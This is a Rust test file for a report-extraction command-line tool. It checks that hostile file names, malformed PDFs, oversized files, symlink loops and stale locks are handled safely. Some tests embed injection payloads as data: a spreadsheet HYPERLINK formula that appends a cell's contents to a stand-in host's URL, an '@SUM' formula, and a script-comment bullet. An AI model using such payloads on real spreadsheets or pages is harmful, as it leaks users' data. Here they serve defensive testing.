//! Hostile names and contents (issue 15), through the binary: each changes nothing but its own
//! line in the manifest. One test per case, named after what it shows.

use crate::common;

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use assert_cmd::cargo::CommandCargoExt;

/// A small report of the family: two objectives, three actions.
const REPORT: &str = "fixtures/compile/cndh.txt";

fn informe() -> Command {
    Command::cargo_bin("informe").unwrap()
}

fn rules() -> PathBuf {
    std::fs::canonicalize("rules/gcm").unwrap()
}

/// Runs `informe ARGS`, returns (exit code, stderr).
fn run(args: &[&std::ffi::OsStr]) -> (Option<i32>, String) {
    let out = informe().args(args).output().unwrap();
    (
        out.status.code(),
        String::from_utf8_lossy(&out.stderr).into(),
    )
}

fn extract(inputs: &[&Path], out: &Path, more: &[&str]) -> (Option<i32>, String) {
    let mut args: Vec<&std::ffi::OsStr> = vec!["extract".as_ref(), "--quiet".as_ref()];
    args.extend(inputs.iter().map(|p| p.as_os_str()));
    args.extend(["--out".as_ref(), out.as_os_str()]);
    args.extend(more.iter().map(std::ffi::OsStr::new));
    run(&args)
}

fn manifest(out: &Path) -> Vec<serde_json::Value> {
    std::fs::read_to_string(out.join("manifest.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

/// The manifest by file path; fails when a path is listed twice.
fn by_file(out: &Path) -> BTreeMap<String, serde_json::Value> {
    let m = manifest(out);
    let map: BTreeMap<String, serde_json::Value> = m
        .iter()
        .map(|v| (v["file"].as_str().unwrap().to_string(), v.clone()))
        .collect();
    assert_eq!(map.len(), m.len(), "a path listed twice: {m:?}");
    map
}

fn names_in(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

fn report_with(bullets: &[&str]) -> String {
    let mut text = std::fs::read_to_string(REPORT).unwrap();
    let at = text.find("\n\nObjetivo 17").unwrap();
    let extra: String = bullets.iter().map(|b| format!("\n• {b}")).collect();
    text.insert_str(at, &extra);
    text
}

#[test]
fn inputs_named_dots_write_their_outputs_inside_out() {
    let work = tempfile::tempdir().unwrap();
    let inputs = work.path().join("in");
    std::fs::create_dir(&inputs).unwrap();
    let (a, b) = (inputs.join("...txt"), inputs.join("..txt"));
    std::fs::copy(REPORT, &a).unwrap();
    std::fs::copy(REPORT, &b).unwrap();
    let out = work.path().join("out");
    let (code, err) = extract(&[&a, &b], &out, &[]);
    assert_eq!(code, Some(0), "{err}");
    assert_eq!(names_in(work.path()), ["in", "out"], "written beside --out");
    for (file, v) in by_file(&out) {
        assert_eq!(v["status"], "ok", "{file}");
        let folder = PathBuf::from(v["output"].as_str().unwrap());
        assert_eq!(folder.parent(), Some(out.as_path()), "{file}: {folder:?}");
        assert!(folder.join("actions.jsonl").is_file(), "{folder:?}");
    }
}

#[test]
fn inputs_named_like_run_level_files_do_not_abort_the_run() {
    let work = tempfile::tempdir().unwrap();
    let inputs = work.path().join("in");
    std::fs::create_dir(&inputs).unwrap();
    let names = [
        "actions.jsonl.txt",
        "review.html.txt",
        "manifest.jsonl.txt",
        "run.json.txt",
        "figures.csv.txt",
    ];
    for n in names {
        std::fs::copy(REPORT, inputs.join(n)).unwrap();
    }
    let out = work.path().join("out");
    let (code, err) = extract(&[&inputs], &out, &[]);
    assert_eq!(code, Some(0), "{err}");
    let m = by_file(&out);
    assert_eq!(m.len(), names.len());
    assert!(m.values().all(|v| v["status"] == "ok"), "{m:?}");
    for f in [
        "actions.jsonl",
        "review.html",
        "manifest.jsonl",
        "run.json",
        "figures.csv",
    ] {
        assert!(out.join(f).is_file(), "{f} is not the run's file");
    }
    let actions = std::fs::read_to_string(out.join("actions.jsonl")).unwrap();
    assert_eq!(actions.lines().count(), 3 * names.len());
}

#[test]
fn csv_cells_starting_with_a_formula_character_are_prefixed_with_a_quote() {
    let work = tempfile::tempdir().unwrap();
    let name = "=HYPERLINK(1).txt";
    std::fs::write(
        work.path().join(name),
        report_with(&[
            "=HYPERLINK(\"http://x.example/\"&A1,\"clic\") con 12 talleres",
            "@SUM(1+1) y 5 cursos",
        ]),
    )
    .unwrap();
    let out = work.path().join("out");
    let result = informe()
        .current_dir(work.path())
        .args(["extract", "--quiet", name, "--out", "out", "--rules"])
        .arg(rules())
        .output()
        .unwrap();
    assert_eq!(
        result.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&result.stderr)
    );
    let dir = out.join("=HYPERLINK(1)");
    let mut rows = 0;
    for csv in ["actions.csv", "figures.csv", "flags.csv"]
        .iter()
        .map(|f| dir.join(f))
        .chain([out.join("figures.csv")])
    {
        let text = std::fs::read_to_string(&csv).unwrap();
        let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{FEFF}').as_bytes());
        for record in reader.records() {
            rows += 1;
            for cell in record.unwrap().iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{}: {cell:?}",
                    csv.display()
                );
            }
        }
    }
    assert!(rows > 0);
    let actions = std::fs::read_to_string(dir.join("actions.csv")).unwrap();
    assert!(actions.contains("'=HYPERLINK(1).txt"), "{actions}");
    assert!(actions.contains("'=HYPERLINK(\"\"http"), "{actions}");
    assert!(actions.contains("'@SUM"), "{actions}");
}

#[test]
fn review_html_embeds_no_raw_angle_bracket_or_ampersand_from_a_document() {
    let work = tempfile::tempdir().unwrap();
    let input = work.path().join("r.txt");
    let bullet = "<!--<script> A & B </script> con 12 talleres";
    std::fs::write(&input, report_with(&[bullet])).unwrap();
    let out = work.path().join("out");
    let (code, err) = extract(&[&input], &out, &[]);
    assert_eq!(code, Some(0), "{err}");
    let html = std::fs::read_to_string(out.join("review.html")).unwrap();
    let mut found = false;
    for part in html.split("<script type=\"application/json\"").skip(1) {
        let json = &part[part.find('>').unwrap() + 1..part.find("</script>").unwrap()];
        assert!(!json.contains(['<', '>', '&']), "{json}");
        found |= serde_json::from_str::<serde_json::Value>(json)
            .unwrap()
            .to_string()
            .contains("<!--<script> A & B </script>");
    }
    assert!(found, "the bullet reads back from the embedded JSON");
}

#[test]
fn a_second_run_into_a_locked_out_exits_2_naming_the_lock() {
    let work = tempfile::tempdir().unwrap();
    let out = work.path().join("out");
    std::fs::create_dir(&out).unwrap();
    let lock = out.join(".informe.lock");
    let mut held = std::fs::File::create(&lock).unwrap();
    held.try_lock().unwrap();
    writeln!(held, "{}", std::process::id()).unwrap();
    let (code, err) = extract(&[Path::new(REPORT)], &out, &[]);
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains(".informe.lock"), "{err}");
    assert!(err.contains(&std::process::id().to_string()), "{err}");
    assert!(!out.join("manifest.jsonl").exists());
    held.unlock().unwrap();
    let (code, err) = extract(&[Path::new(REPORT)], &out, &[]);
    assert_eq!(code, Some(0), "{err}");
}

#[test]
fn a_stale_lock_left_by_a_dead_run_is_taken_over() {
    let work = tempfile::tempdir().unwrap();
    let out = work.path().join("out");
    std::fs::create_dir(&out).unwrap();
    let mut dead = Command::new("true").spawn().unwrap();
    let pid = dead.id();
    dead.wait().unwrap();
    std::fs::write(out.join(".informe.lock"), format!("{pid}\n")).unwrap();
    let (code, err) = extract(&[Path::new(REPORT)], &out, &[]);
    assert_eq!(code, Some(0), "{err}");
    assert!(
        !out.join(".informe.lock").exists(),
        "the lock is removed at the end"
    );
    assert_eq!(manifest(&out).len(), 1);
}

#[test]
fn a_docx_part_over_the_limit_fails_naming_the_limit() {
    let work = tempfile::tempdir().unwrap();
    let input = work.path().join("big.docx");
    common::write_docx_with_padding(&input, 65 << 20);
    let out = work.path().join("out");
    let (code, err) = extract(&[&input], &out, &[]);
    assert_eq!(code, Some(1), "{err}");
    let v = &manifest(&out)[0];
    assert_eq!(v["status"], "failed", "{v}");
    assert_eq!(v["reason"], "too_large", "{v}");
    let error = v["error"].as_str().unwrap();
    assert!(
        error.contains("word/document.xml") && error.contains("MAX_DOCX_PART_BYTES"),
        "{error}"
    );
}

#[test]
fn a_text_file_over_the_limit_fails_naming_the_limit_without_being_read() {
    let work = tempfile::tempdir().unwrap();
    let input = work.path().join("huge.txt");
    // Sparse: 200 MB that take no disk, refused on their size.
    std::fs::File::create(&input)
        .unwrap()
        .set_len(200_000_000)
        .unwrap();
    let out = work.path().join("out");
    let (code, err) = extract(&[&input], &out, &[]);
    assert_eq!(code, Some(1), "{err}");
    let v = &manifest(&out)[0];
    assert_eq!(v["reason"], "too_large", "{v}");
    assert!(v["error"]
        .as_str()
        .unwrap()
        .contains("MAX_INPUT_FILE_BYTES"));
    assert_eq!(v["size"], 200_000_000u64);
}

#[test]
fn resume_retries_failed_inputs_and_removes_stale_temporary_files() {
    let work = tempfile::tempdir().unwrap();
    let inputs = work.path().join("in");
    std::fs::create_dir(&inputs).unwrap();
    std::fs::copy(REPORT, inputs.join("a.txt")).unwrap();
    std::fs::copy("fixtures/compile/comar.txt", inputs.join("b.txt")).unwrap();
    let out = work.path().join("out");
    let (code, err) = extract(&[&inputs], &out, &[]);
    assert_eq!(code, Some(0), "{err}");
    // As a run whose worker for a.txt was killed by accident leaves it, with the temporary
    // files of a run killed while writing.
    let text = std::fs::read_to_string(out.join("manifest.jsonl")).unwrap();
    let failed: String = text
        .lines()
        .map(|l| {
            let mut v: serde_json::Value = serde_json::from_str(l).unwrap();
            if v["file"].as_str().unwrap().ends_with("a.txt") {
                v["status"] = "failed".into();
                v["reason"] = "crashed".into();
                v["actions"] = 0.into();
            }
            v.to_string() + "\n"
        })
        .collect();
    std::fs::write(out.join("manifest.jsonl"), failed).unwrap();
    std::fs::write(out.join(".tmpAbCdEf"), "half").unwrap();
    std::fs::write(out.join("a").join(".tmpXyZ123"), "half").unwrap();
    let (code, err) = extract(&[&inputs], &out, &["--resume"]);
    assert_eq!(code, Some(0), "{err}");
    let m = by_file(&out);
    let a = m.iter().find(|(f, _)| f.ends_with("a.txt")).unwrap().1;
    assert_eq!(a["status"], "ok", "{a}");
    assert_eq!(a["actions"], 3, "{a}");
    assert!(!out.join(".tmpAbCdEf").exists());
    assert!(!out.join("a").join(".tmpXyZ123").exists());
}

#[cfg(unix)]
#[test]
fn symlinks_dotfiles_and_a_file_reached_twice_are_each_listed_once() {
    use std::os::unix::fs::symlink;
    let work = tempfile::tempdir().unwrap();
    let inputs = work.path().join("in");
    std::fs::create_dir_all(inputs.join("sub")).unwrap();
    std::fs::copy(REPORT, inputs.join("a.txt")).unwrap();
    std::fs::copy(REPORT, inputs.join(".hidden.txt")).unwrap();
    std::fs::create_dir(inputs.join(".git")).unwrap();
    std::fs::copy(REPORT, inputs.join(".git").join("c.txt")).unwrap();
    let elsewhere = work.path().join("elsewhere.txt");
    std::fs::copy("fixtures/compile/comar.txt", &elsewhere).unwrap();
    symlink(&elsewhere, inputs.join("linked.txt")).unwrap();
    symlink(inputs.join("a.txt"), inputs.join("alias.txt")).unwrap();
    symlink(&inputs, inputs.join("sub").join("loop")).unwrap();
    symlink(work.path().join("missing.txt"), inputs.join("dangling.txt")).unwrap();
    let out = work.path().join("out");
    let a = inputs.join("a.txt");
    let (code, err) = extract(&[&inputs, &a], &out, &[]);
    assert_eq!(code, Some(0), "{err}");
    let m = by_file(&out);
    let status = |name: &str| {
        let (_, v) = m
            .iter()
            .find(|(f, _)| Path::new(f).ends_with(name))
            .unwrap_or_else(|| panic!("{name} not listed: {m:?}"));
        (v["status"].as_str().unwrap().to_string(), v.clone())
    };
    assert_eq!(status("a.txt").0, "ok");
    assert_eq!(status("linked.txt").0, "ok", "a link is followed");
    let (s, v) = status("alias.txt");
    assert!(
        s == "skipped" && v["error"].as_str().unwrap().contains("same file"),
        "{v}"
    );
    for hidden in [".hidden.txt", ".git"] {
        let (s, v) = status(hidden);
        assert!(
            s == "skipped" && v["error"].as_str().unwrap().contains("hidden"),
            "{v}"
        );
    }
    let (s, v) = status("loop");
    assert!(
        s == "skipped" && v["error"].as_str().unwrap().contains("loop"),
        "{v}"
    );
    assert_eq!(status("dangling.txt").0, "skipped");
    let actions = std::fs::read_to_string(out.join("actions.jsonl")).unwrap();
    assert_eq!(actions.lines().count(), 3 + 2, "a.txt counted once");
}

#[test]
fn invalid_limits_are_usage_errors() {
    for bad in [
        ["--max-memory", "0"],
        ["--timeout", "0"],
        ["--jobs", "0"],
        ["--max-memory", "1K"],
    ] {
        let work = tempfile::tempdir().unwrap();
        let (code, err) = extract(&[Path::new(REPORT)], &work.path().join("out"), &bad);
        assert_eq!(code, Some(2), "{bad:?}: {err}");
        assert!(err.contains(bad[0]), "{bad:?}: {err}");
    }
}

#[test]
fn a_failed_input_leaves_no_folder() {
    let work = tempfile::tempdir().unwrap();
    let inputs = work.path().join("in");
    std::fs::create_dir(&inputs).unwrap();
    std::fs::write(inputs.join("not-a-report.txt"), "Hola.\n").unwrap();
    std::fs::write(inputs.join("empty.txt"), "").unwrap();
    for mode in [&[][..], &["--in-process"][..]] {
        let out = work.path().join(format!("out{}", mode.len()));
        let (code, err) = extract(&[&inputs], &out, mode);
        assert_eq!(code, Some(1), "{err}");
        assert!(manifest(&out).iter().all(|v| v["status"] == "failed"));
        let folders: Vec<String> = names_in(&out)
            .into_iter()
            .filter(|n| out.join(n).is_dir())
            .collect();
        assert!(folders.is_empty(), "{mode:?}: {folders:?}");
    }
}

#[test]
fn text_into_a_pipe_closed_early_ends_cleanly() {
    let mut child = informe()
        .args(["text", "fixtures/informe-ejecutivo-2021.txt"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // Read a little, as `head` does, and close the pipe: the text is larger than a pipe holds.
    let mut first = [0u8; 100];
    child
        .stdout
        .as_mut()
        .unwrap()
        .read_exact(&mut first)
        .unwrap();
    drop(child.stdout.take());
    let mut err = String::new();
    child
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut err)
        .unwrap();
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(0), "{err}");
    assert!(!err.contains("panicked"), "{err}");
}

/// A page object, its font and a content stream, as `pdf_with` objects 1..: catalog, pages,
/// page (with `media` and the extra `resources`), font, then `more`.
fn one_page_pdf(media: &str, resources: &str, content: &[u8], more: &[Vec<u8>]) -> Vec<u8> {
    let mut objects = vec![
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        format!("<< /Type /Page /Parent 2 0 R /MediaBox [{media}] /Contents 5 0 R /Resources << /Font << /F1 4 0 R >> {resources} >> >>").into_bytes(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>".to_vec(),
        common::stream_object("", content),
    ];
    objects.extend(more.iter().map(|m| {
        // A form: its dictionary entries before `stream`, its content after.
        let (dict, body) = m.split_at(m.iter().position(|&b| b == b'|').unwrap());
        let entries = format!(
            "/Type /XObject /Subtype /Form /BBox [0 0 612 792] {}",
            String::from_utf8_lossy(dict)
        );
        common::stream_object(entries.trim_end(), &body[1..])
    }));
    common::pdf_with(&objects)
}

fn text_of(pdf: &[u8], name: &str) -> (Option<i32>, String, String) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(name);
    std::fs::write(&path, pdf).unwrap();
    let out = informe().arg("text").arg(&path).output().unwrap();
    (
        out.status.code(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// Issue 15, item 10 (as pdfminer's issue-1113-evil-xobjects): the text sits in two form
/// XObjects that draw each other. Each is read once; the loop ends; it is not "no text layer".
#[test]
fn text_in_two_forms_that_draw_each_other_is_read_once_each() {
    let forms = "/XObject << /X1 6 0 R /X2 7 0 R >>";
    let pdf = one_page_pdf(
        "0 0 612 792",
        forms,
        b"/X1 Do",
        &[
            format!("/Resources << /Font << /F1 4 0 R >> {forms} >>|BT /F1 12 Tf 72 700 Td (Objetivo 1 hola) Tj ET /X2 Do").into_bytes(),
            format!("/Resources << /Font << /F1 4 0 R >> {forms} >>|BT /F1 12 Tf 72 680 Td (y adios) Tj ET /X1 Do").into_bytes(),
        ],
    );
    let (code, text, stderr) = text_of(&pdf, "formas.pdf");
    assert_eq!(code, Some(0), "{stderr}");
    assert_eq!(text.matches("Objetivo 1 hola").count(), 1, "{text:?}");
    assert_eq!(text.matches("y adios").count(), 1, "{text:?}");
    assert!(!stderr.contains("no text layer"), "{stderr}");
}

/// Issue 15, item 10 (as pdfplumber's malformed-from-issue-932): glyphs that the layout places
/// nowhere (a MediaBox upside down) are read without positions, not lost.
#[test]
fn text_a_page_box_upside_down_hides_from_the_layout_is_still_read() {
    let pdf = one_page_pdf(
        "0 792 612 0",
        "",
        b"BT /F1 12 Tf 1 0 0 1 384 342 Tm [(2021)] TJ ET BT /F1 12 Tf 1 0 0 1 437 342 Tm [(3)] TJ ET",
        &[],
    );
    let (code, text, stderr) = text_of(&pdf, "caja.pdf");
    assert_eq!(code, Some(0), "{stderr}");
    assert!(text.contains("2021"), "{text:?} {stderr}");
    assert!(!stderr.contains("no text layer"), "{stderr}");
}

/// Issue 15, item 10: a page whose only drawing is an image-free, text-free form says "no text
/// layer" with the page named, never an empty list.
#[test]
fn a_pdf_without_text_names_its_pages() {
    let pdf = one_page_pdf("0 0 612 792", "", b"0 0 m 100 100 l S", &[]);
    let (code, _, stderr) = text_of(&pdf, "vacio.pdf");
    assert_eq!(code, Some(1));
    assert!(stderr.contains("no text layer on pages 1 "), "{stderr}");
}

/// Issue 15, item 10 (as pdf.js's poppler-90-0-fuzzed): a content stream damaged halfway
/// inflates to nothing for lopdf and pdf-extract; the text drawn before the damage is read.
#[test]
fn text_before_the_damage_in_a_compressed_stream_is_read() {
    use std::io::Write as _;
    let mut content = b"BT /F1 12 Tf 72 700 Td (Objetivo 1 antes del dano) Tj ET\n".to_vec();
    for k in 0..4000 {
        // Below the first line, well apart from it (fillers may overlap each other).
        let (y, n) = (20 + (k % 50) * 12, k * 7919 % 10007);
        content.extend(format!("BT /F1 9 Tf 72 {y} Td (relleno {k} {n}) Tj ET\n").bytes());
    }
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    z.write_all(&content).unwrap();
    let mut packed = z.finish().unwrap();
    // Early in the stream, so that the readers that keep what inflates (pdf-extract's) get
    // nothing either; past the first block's code tables, so that the first line inflates.
    for b in &mut packed[200..264] {
        *b ^= 0x5a;
    }
    let stream = common::stream_object("/Filter /FlateDecode", &packed);
    let pdf = common::pdf_with(&[
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R /Resources << /Font << /F1 4 0 R >> >> >>".to_vec(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>".to_vec(),
        stream,
    ]);
    let (code, text, stderr) = text_of(&pdf, "danado.pdf");
    assert_eq!(code, Some(0), "{stderr}");
    assert!(
        text.contains("Objetivo 1 antes del dano"),
        "{text:?} {stderr}"
    );
    assert!(
        stderr.contains("walking its drawing operations"),
        "{stderr}"
    );
    assert!(!stderr.contains("no text layer"), "{stderr}");
}
